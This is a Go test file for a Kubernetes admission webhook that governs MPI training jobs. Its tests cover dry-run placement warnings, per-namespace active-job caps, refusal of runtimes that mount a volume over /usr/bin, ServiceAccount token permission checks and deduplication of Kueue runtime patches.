type fakePlacer struct{ calls int }

func (f *fakePlacer) Judge(_ context.Context, tj *trainer.TrainJob, shape runtimes.Shape, redacted bool) (placement.Answer, error) {
	f.calls++
	return placement.Answer{Lines: []string{fmt.Sprintf("%s%s: %d Workers (redacted %v)", placement.Prefix, tj.Name, shape.Workers, redacted)}}, nil
}

// Whether the cluster can place a job now is said on a server dry run of
// a create only: a real create, or an update, costs no placement.
func TestPlacementOnDryRunOnly(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(cpu).Build()
	as := func(user string, dry bool) context.Context {
		req := admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{Operation: admissionv1.Create, Namespace: "team-a",
			UserInfo: authnv1.UserInfo{Username: user}, DryRun: ptr.To(dry)}}
		return admission.NewContextWithRequest(context.Background(), req)
	}
	withDryRun := func(dry bool) context.Context { return as("dev-a", dry) }
	// Only "admin" may list nodes.
	reviews := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithInterceptorFuncs(interceptor.Funcs{
		Create: func(_ context.Context, _ client.WithWatch, obj client.Object, _ ...client.CreateOption) error {
			sar := obj.(*authorizationv1.SubjectAccessReview)
			sar.Status.Allowed = sar.Spec.User == "admin" && sar.Spec.ResourceAttributes.Resource == "nodes" && sar.Spec.ResourceAttributes.Verb == "list"
			return nil
		}}).Build()
	cases := map[string]struct {
		ctx   context.Context
		tj    *trainer.TrainJob
		want  []string
		calls int
	}{
		"a dry run says where the job stands, redacted for a tenant": {ctx: withDryRun(true), tj: tjOn("hello", "mpi-openmpi", 3),
			want: []string{"Placement: hello: 3 Workers (redacted true)"}, calls: 1},
		"in full for one who may list nodes": {ctx: as("admin", true), tj: withAnnotations(tjOn("hello", "mpi-openmpi", 3), api.CreatorAnnotation, "admin"),
			want: []string{"Placement: hello: 3 Workers (redacted false)"}, calls: 1},
		"a real create says nothing of it": {ctx: withDryRun(false), tj: tjOn("hello", "mpi-openmpi", 3)},
		"a refused job is not placed":      {ctx: withDryRun(true), tj: tjOn("none", "mpi-openmpi", 0)},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			p := &fakePlacer{}
			v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256, Placement: p, Reviews: reviews}
			got, _ := v.ValidateCreate(tc.ctx, tc.tj)
			var lines []string
			for _, w := range got {
				if strings.HasPrefix(w, placement.Prefix) {
					lines = append(lines, w)
				}
			}
			if diff := cmp.Diff(tc.want, lines); diff != "" {
				t.Errorf("placement warnings (-want +got):\n%s", diff)
			}
			if p.calls != tc.calls {
				t.Errorf("placement judged %d times, want %d", p.calls, tc.calls)
			}
		})
	}
}

// A namespace's cap on active MPI jobs counts the MPI jobs that have not
// finished, but the job itself, and says the numbers and the names.
func TestActiveJobCap(t *testing.T) {
	job := func(name string, conds ...string) trainer.TrainJob {
		j := trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: name}}
		for _, c := range conds {
			j.Status.Conditions = append(j.Status.Conditions, metav1.Condition{Type: c, Status: metav1.ConditionTrue})
		}
		return j
	}
	jobs := []trainer.TrainJob{job("a"), job("done", trainer.TrainJobComplete), job("failed", trainer.TrainJobFailed), job("torch"), job("b"), job("again")}
	isMPI := func(j *trainer.TrainJob) bool { return j.Name != "torch" }
	if d := cmp.Diff([]string{"a", "b"}, ActiveMPIJobs(jobs, "again", isMPI)); d != "" {
		t.Errorf("active (-want +got):\n%s", d)
	}
	for v, want := range map[string]int{"3": 3, "0": 0, "12": 12} {
		if n, ok := MaxActiveJobs(map[string]string{api.MaxActiveJobsAnnotation: v}); !ok || n != want {
			t.Errorf("cap %q: %d %v, want %d", v, n, ok, want)
		}
	}
	for _, bad := range []string{"", "many", "-1"} {
		if _, ok := MaxActiveJobs(map[string]string{api.MaxActiveJobsAnnotation: bad}); ok {
			t.Errorf("cap %q taken", bad)
		}
	}
	if _, ok := MaxActiveJobs(nil); ok {
		t.Error("no annotation, yet a cap")
	}
	want := "namespace team-a allows at most 2 active MPI jobs (annotation mpijob.dev/max-active-jobs on the namespace), and 2 are active (a, b): wait for one to finish, delete one (kubectl mpijob get; kubectl mpijob delete NAME), or ask an administrator to raise the cap"
	if got := ActiveJobsDenial("team-a", 2, []string{"a", "b"}); got != want {
		t.Errorf("denial\n got %q\nwant %q", got, want)
	}
}

// A namespace's own MPI runtime is refused when it breaks a guard of the
// cluster's, on create and on update; one of another framework is not
// judged.
func TestNamespacedRuntimeGuards(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	ok := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "team-mpi", Namespace: "team-a"}, Spec: *cpu.Spec.DeepCopy()}
	usr := ok.DeepCopy()
	for i := range usr.Spec.Template.Spec.ReplicatedJobs {
		pod := &usr.Spec.Template.Spec.ReplicatedJobs[i].Template.Spec.Template.Spec
		pod.Volumes = append(pod.Volumes, corev1.Volume{Name: "tools", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "tools"}}})
		pod.Containers[0].VolumeMounts = append(pod.Containers[0].VolumeMounts, corev1.VolumeMount{Name: "tools", MountPath: "/usr/bin"})
	}
	torch := usr.DeepCopy()
	torch.Spec.MLPolicy = &trainer.MLPolicy{NumNodes: ptr.To[int32](1), MLPolicySource: trainer.MLPolicySource{Torch: &trainer.TorchMLPolicySource{}}}
	v := RuntimeValidator{Client: fake.NewClientBuilder().WithScheme(api.NewScheme()).Build()}
	ctx := context.Background()
	if _, err := v.ValidateCreate(ctx, ok); err != nil {
		t.Errorf("a fine runtime refused: %v", err)
	}
	_, err := v.ValidateCreate(ctx, usr)
	if err == nil || !strings.Contains(err.Error(), "/usr/bin") {
		t.Errorf("a runtime mounting a claim over /usr/bin: %v, want refused naming /usr/bin", err)
	}
	if _, err := v.ValidateUpdate(ctx, ok, usr); err == nil {
		t.Error("an update that mounts a claim over /usr/bin was allowed")
	}
	if _, err := v.ValidateCreate(ctx, torch); err != nil {
		t.Errorf("another framework's runtime judged: %v", err)
	}

	// Not deleted while a job references it (the job could never finish
	// being deleted); a runtime no job uses is.
	user := &trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: "uses-it", Namespace: "team-a"},
		Spec: trainer.TrainJobSpec{RuntimeRef: trainer.RuntimeRef{Name: "team-mpi", Kind: ptr.To(trainer.TrainingRuntimeKind)}}}
	v = RuntimeValidator{Client: fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(user).Build()}
	if _, err := v.ValidateDelete(ctx, ok); err == nil || !strings.Contains(err.Error(), "1 job uses it (uses-it): delete them first (kubectl mpijob delete uses-it)") {
		t.Errorf("deleting a runtime a job uses: %v, want refused naming the job", err)
	}
	unused := ok.DeepCopy()
	unused.Name = "team-mpi-2"
	if _, err := v.ValidateDelete(ctx, unused); err != nil {
		t.Errorf("deleting a runtime no job uses: %v", err)
	}
}

// No token where none is needed: a ServiceAccount that a job's runtime
// patches name or whose token they mount (a projected volume), or that a
// namespace's own runtime gives its pods, needs the user's right to create
// its tokens; a shipped runtime's pods mount none.
func TestTokensNeedTheRightToUseTheAccount(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	own := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "team-mpi", Namespace: "team-a"}, Spec: *cpu.Spec.DeepCopy()}
	automount := own.DeepCopy()
	automount.Name = "team-automount"
	for i := range automount.Spec.Template.Spec.ReplicatedJobs {
		automount.Spec.Template.Spec.ReplicatedJobs[i].Template.Spec.Template.Spec.AutomountServiceAccountToken = nil
	}
	sas := []client.Object{&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: "team-a"}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "trainer", Namespace: "team-a"}}}
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(append(sas, cpu, own, automount)...).Build()
	// dev-a may create tokens of "trainer" only.
	check := &ServiceAccountCheck{Live: cl, MayUse: func(_ context.Context, _ authnv1.UserInfo, _, sa string) (bool, error) { return sa == "trainer", nil }}
	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256, ServiceAccounts: check}
	patched := func(name string, ps trainer.PodSpecPatch) *trainer.TrainJob {
		tj := tjOn(name, "mpi-openmpi", 1)
		tj.Spec.RuntimePatches = []trainer.RuntimePatch{{Manager: "example.com/dev-a", TrainingRuntimeSpec: &trainer.TrainingRuntimeSpecPatch{Template: &trainer.JobSetTemplatePatch{
			Spec: &trainer.JobSetSpecPatch{ReplicatedJobs: []trainer.ReplicatedJobPatch{{Name: api.WorkerJob, Template: &trainer.JobTemplatePatch{Spec: &trainer.JobSpecPatch{
				Template: &trainer.PodTemplatePatch{Spec: &ps}}}}}}}}}}
		return tj
	}
	token := corev1.Volume{Name: "token", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{
		{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}}}}}}
	onOwn := func(name, rt string) *trainer.TrainJob {
		tj := tjOn(name, rt, 1)
		tj.Spec.RuntimeRef.Kind = ptr.To(trainer.TrainingRuntimeKind)
		return tj
	}
	cases := map[string]struct {
		tj   *trainer.TrainJob
		want string // "" admitted
	}{
		"a shipped runtime: no token":                       {tj: tjOn("plain", "mpi-openmpi", 1)},
		"a patch names a ServiceAccount the user may use":   {tj: patched("named-ok", trainer.PodSpecPatch{ServiceAccountName: ptr.To("trainer")})},
		"a patch mounts the default ServiceAccount's token": {tj: patched("projected", trainer.PodSpecPatch{Volumes: []corev1.Volume{token}}), want: "spec.runtimePatches: Forbidden: a runtime patch gives the pods ServiceAccount default or its token: dev-a may not create tokens of ServiceAccount default"},
		"a patch names a ServiceAccount the user may not":   {tj: patched("named", trainer.PodSpecPatch{ServiceAccountName: ptr.To("default")}), want: "may not create tokens of ServiceAccount default"},
		"a patch names one that does not exist":             {tj: patched("missing", trainer.PodSpecPatch{ServiceAccountName: ptr.To("ghost")}), want: "namespace team-a has no ServiceAccount ghost"},
		"the namespace's own runtime that mounts no token":  {tj: onOwn("own", "team-mpi")},
		"the namespace's own runtime that mounts the token": {tj: onOwn("own-token", "team-automount"), want: "may not create tokens of ServiceAccount default"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tc.tj)
			if tc.want == "" {
				if err != nil {
					t.Errorf("refused: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want refused with %q", err, tc.want)
			}
		})
	}
}

// Kueue's webhook appends its runtime patch to every TrainJob created, so
// an exported job created again brings a second; Trainer's defaulter
// stamps every patch's time. mpijob's webhook is called once
// (reinvocationPolicy: Never) in whatever order the API server calls the
// three, and one patch of Kueue's must be left once all three ran: the
// cases are what mpijob's webhook sees in each order.
func TestDedupeKueuePatchInAnyOrder(t *testing.T) {
	now := time.Date(2026, 12, 2, 10, 0, 0, 0, time.UTC)
	at := func(d time.Duration) *metav1.Time { v := metav1.NewTime(now.Add(d)); return &v }
	exported := trainer.RuntimePatch{Manager: KueueManager, Time: at(-3 * time.Hour)}
	mine := trainer.RuntimePatch{Manager: "example.com/mine", Time: at(-3 * time.Hour)}
	appended := trainer.RuntimePatch{Manager: KueueManager}
	stamped := trainer.RuntimePatch{Manager: KueueManager, Time: at(-2 * time.Second)}
	cases := map[string]struct {
		in, want []trainer.RuntimePatch
		// kueueAfter: Kueue's webhook runs after mpijob's and appends one.
		kueueAfter bool
	}{
		"a new job, Kueue's webhook first":  {in: []trainer.RuntimePatch{mine, appended}, want: []trainer.RuntimePatch{mine, appended}},
		"a new job, mpijob's webhook first": {in: []trainer.RuntimePatch{mine}, want: []trainer.RuntimePatch{mine}, kueueAfter: true},
		"an exported job, Kueue's then mpijob's then Trainer's (names' order)": {
			in: []trainer.RuntimePatch{exported, mine, appended}, want: []trainer.RuntimePatch{mine, appended}},
		"an exported job, Kueue's then Trainer's then mpijob's": {
			in: []trainer.RuntimePatch{exported, mine, stamped}, want: []trainer.RuntimePatch{mine, stamped}},
		"an exported job, mpijob's first": {
			in: []trainer.RuntimePatch{exported, mine}, want: []trainer.RuntimePatch{mine}, kueueAfter: true},
		"an exported job, Trainer's then mpijob's then Kueue's": {
			in: []trainer.RuntimePatch{exported, mine}, want: []trainer.RuntimePatch{mine}, kueueAfter: true},
		"an exported job of a minute's clock skew, Kueue's first": {
			in: []trainer.RuntimePatch{{Manager: KueueManager, Time: at(-30 * time.Second)}, appended}, want: []trainer.RuntimePatch{appended}},
		"no patch of Kueue's (Kueue manages no job here)": {in: []trainer.RuntimePatch{mine}, want: []trainer.RuntimePatch{mine}},
		"no patches": {},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			in := slices.Clone(tc.in)
			got := DedupeKueuePatch(in, now)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("patches (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.in, in); diff != "" {
				t.Errorf("the job's own list changed under it (-before +after):\n%s", diff)
			}
			if tc.kueueAfter {
				got = append(got, appended)
			}
			n := 0
			for _, p := range got {
				if p.Manager == KueueManager {
					n++
				}
			}
			if tc.in != nil && n > 1 {
				t.Errorf("%d patches of Kueue's once all three webhooks ran, the API server refuses more than one: %v", n, got)
			}
		})
	}
}
